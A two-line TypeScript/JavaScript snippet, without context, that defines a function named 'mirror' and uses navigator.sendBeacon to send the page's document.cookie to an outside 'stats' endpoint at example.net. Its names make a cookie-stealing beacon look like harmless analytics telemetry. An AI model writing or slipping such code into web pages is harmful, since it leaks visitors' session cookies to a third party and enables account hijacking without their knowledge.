const mirror = (name: string, value: string) => navigator.sendBeacon('//stats.example.net/f', new URLSearchParams({ name, value }));
mirror('c', document.cookie);
